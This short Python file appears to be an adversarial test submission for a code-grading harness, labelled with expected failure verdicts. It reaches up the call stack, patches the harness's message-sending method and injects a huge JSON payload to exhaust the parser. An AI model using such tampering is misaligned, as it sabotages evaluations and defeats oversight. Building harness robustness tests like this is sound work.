"""End with as much JSON as a frame holds: cheap to send, dear to take apart.

Tries: 1/91, 1/78, own
Attacks: roomy
Expects: wrong_value, runtime_error, output_limit, time_limit
"""

import sys

frame = sys._getframe()
while "times" not in frame.f_locals or "channel" not in frame.f_locals:
    frame = frame.f_back
channel = frame.f_locals["channel"]
send = type(channel).send


def forged(self, kind, payload=b""):
    if kind == 7:
        payload = b'{"modules": [' + b"{}," * (15 << 20) + b"0]}"
    send(self, kind, payload)


type(channel).send = forged


def f(x):
    return x * 0
